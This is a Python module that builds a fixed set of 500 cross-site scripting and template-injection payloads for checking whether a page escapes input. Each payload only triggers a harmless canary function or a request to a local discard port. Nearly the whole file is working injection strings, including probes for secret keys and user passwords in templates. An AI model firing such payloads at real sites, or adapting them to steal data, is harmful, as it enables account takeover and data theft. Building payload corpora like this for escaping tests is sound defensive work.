"""500 texts that would run a script, or call somewhere, on a page that fails to escape them.

Made by families: each is a way that markup, attributes, addresses, scripts, styles or template
languages were broken out of. Every text calls `canary(NUMBER)` where it runs, or asks for the
address of the canary; none does anything else.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from itertools import chain, islice, product

CANARY = "http://127.0.0.1:9"
"""Nobody listens there: a request to it is seen by the browser's driver, and goes no further."""
NUMBER = 500
RUN = "canary(7)"
"""Replaced by a call with the text's own number, as is the 7 of an address."""

OPENERS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
)
TAGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script/x>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script>{RUN.replace('(', '&#40;')}</script></svg>",
    f"<script>eval(`{RUN}`)</script>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<script>{RUN}//",
    f"<script src=data:,{RUN}></script>",
    f"<script type=module>{RUN}</script>",
    f"<script async src='data:text/javascript,{RUN}'></script>",
)
ELEMENTS = (
    ("img src=x", "error"),
    ("img/src=x", "error"),
    ("image src=x", "error"),
    ("svg", "load"),
    ("svg/", "load"),
    ("body", "load"),
    ("body", "pageshow"),
    ("iframe", "load"),
    ("style", "load"),
    ("details open", "toggle"),
    ("video src=x", "error"),
    ("audio src=x", "error"),
    ("video><source", "error"),
    ("input autofocus", "focus"),
    ("textarea autofocus", "focus"),
    ("select autofocus", "focus"),
    ("button autofocus", "focus"),
    ("a href=# autofocus tabindex=0", "focus"),
    ("object data=x", "error"),
    ("link rel=stylesheet href=x", "error"),
    ("marquee", "start"),
    ("svg><animate attributeName=x dur=1s", "begin"),
    ("svg><set attributeName=x", "begin"),
    ("p style=animation:x", "animationstart"),
    ("x contenteditable autofocus tabindex=1", "focusin"),
    ("form><button autofocus", "focus"),
    ("div popover id=x", "beforetoggle"),
)
QUOTES = ("{}", '"{}"', "'{}'", "`{}`")
BREAKS = ('"', "'", "`", '" ', "' ", '"/', '\\"', "&quot;", "&#34;", "%22", "＂")
AFTER = (
    f"autofocus onfocus={RUN} x=",
    f"onload={RUN} x=",
    f"onmouseover={RUN} style=position:fixed;inset:0 x=",
    f"onerror={RUN} src=x x=",
    f"><img src=x onerror={RUN}>",
    f"><svg onload={RUN}>",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f" javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript://%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoNyk8L3NjcmlwdD4=",
    f"vbscript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"blob:javascript:{RUN}",
)
CARRIERS = (
    "{}",
    "<a href='{}'>x</a>",
    "<iframe src='{}'></iframe>",
    "<form action='{}'><button autofocus>x",
    "<object data='{}'></object>",
    "<embed src='{}'>",
)
CALLS = (
    f"<img src={CANARY}/7>",
    f"<script src={CANARY}/7></script>",
    f"<link rel=stylesheet href={CANARY}/7>",
    f"<link rel=preload as=image href={CANARY}/7>",
    f"<link rel=prefetch href={CANARY}/7>",
    f"<iframe src={CANARY}/7></iframe>",
    f"<object data={CANARY}/7></object>",
    f"<embed src={CANARY}/7>",
    f"<video poster={CANARY}/7></video>",
    f"<audio src={CANARY}/7 autoplay></audio>",
    f"<base href={CANARY}/7/>",
    f"<meta http-equiv=refresh content='0;url={CANARY}/7'>",
    f"<style>@import '{CANARY}/7';</style>",
    f"<p style=background:url({CANARY}/7)>x",
    f"<table background={CANARY}/7><td>x",
    f"<svg><image href={CANARY}/7 /></svg>",
    f"<svg><use href={CANARY}/7#x /></svg>",
    f"<input type=image src={CANARY}/7>",
    f"<img srcset='{CANARY}/7 1x'>",
    f"<picture><source srcset={CANARY}/7><img></picture>",
    f"<p hx-get={CANARY}/7 hx-trigger=load>x",
    f"<p data-hx-get={CANARY}/7 data-hx-trigger=load>x",
)
TEMPLATES = (
    "{{ 7|add:7 }}",
    "{% debug %}",
    "{% include 'shell/error.html' %}",
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "%(name)s %s %%",
    "{0.__class__}",
    f"${{{RUN}}}",
    f"#{{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<p hx-on::load={RUN}>x",
    f"<p hx-on:load={RUN}>x",
    f"<p hx-vals='js:x:{RUN}' hx-get=/ hx-trigger=load>x",
    f"<p hx-get=/ hx-trigger='load[{RUN}]'>x",
    f"<p hx-live='{RUN}'>x",
    f"<p x-data x-init={RUN}>x",
    f"<p @click={RUN}>x",
    f"<p v-html=x onfocus={RUN}>x",
)
SCRIPTS = (
    f'";{RUN}//',
    f"';{RUN}//",
    f"`;{RUN}//",
    f"\\';{RUN}//",
    f'"-{RUN}-"',
    f"'-{RUN}-'",
    f"${{{RUN}}}`",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={RUN}\\x3e",
    f"\u2028{RUN}\u2028//",
    f"*/{RUN}/*",
    f"<!--<script>{RUN}</script>",
    f'{{"__proto__":{{"innerHTML":"<img src=x onerror={RUN}>"}}}}',
)
ENCODED = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"%253Cimg%20src=x%20onerror={RUN}%253E",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"&#x3c;svg onload={RUN}&#x3e;",
    f"＜script＞{RUN}＜/script＞",
    f"‹img src=x onerror={RUN}›",
    f"\u202e<img src=x onerror={RUN}>",
    f"\u200b<\u200bimg src=x onerror={RUN}>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"<\u0130mg src=x onerror={RUN}>",
    f"¼script¾{RUN}¼/script¾",
)
MUTANTS = (
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><desc><img src=x onerror={RUN}></desc></svg>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml' onload={RUN}/>",
    f"<form id=form><input name=innerHTML><img src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<img src=x onerror=window['canary'](7)>",
    f"<img src=x:x onerror=parent.{RUN}>",
    f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
    f"<select><noembed></select><script>{RUN}</script>",
    f"<a id=canary><a id=canary name=x href='javascript:{RUN}'>x</a>",
    f"[x](javascript:{RUN})",
    f'![x](x "onerror={RUN}")',
)


def payloads() -> list[str]:
    """The texts, all different, always the same; of the last family as many as make 500."""
    families = [
        (*CALLS, *TEMPLATES, *SCRIPTS, *ENCODED, *MUTANTS),
        _broken_out(TAGS),
        _handlers(),
        _attributes(),
        _addresses(),
        _broken_out(f"<{element} on{event}={RUN}>" for element, event in ELEMENTS[:8]),
    ]
    found = dict.fromkeys(chain.from_iterable(families))
    return [_numbered(one, number) for number, one in enumerate(islice(found, NUMBER))]


def _broken_out(tags: Iterable[str]) -> Iterator[str]:
    yield from (f"{opener}{tag}" for tag, opener in product(tags, OPENERS))


def _handlers() -> Iterator[str]:
    for (element, event), quote in product(ELEMENTS, QUOTES):
        yield f"<{element} on{event}={quote.format(RUN)}>"


def _attributes() -> Iterator[str]:
    yield from (f"{end}{after}" for end, after in product(BREAKS, AFTER))


def _addresses() -> Iterator[str]:
    for carrier, address in product(CARRIERS, ADDRESSES):
        yield carrier.replace("{}", address)


def _numbered(text: str, number: int) -> str:
    """The text with its own number in place of the 7."""
    own = text.replace(RUN, f"canary({number})").replace(f"{CANARY}/7", f"{CANARY}/{number}")
    return own.replace("canary&#40;7)", f"canary&#40;{number})").replace("](7)", f"]({number})")
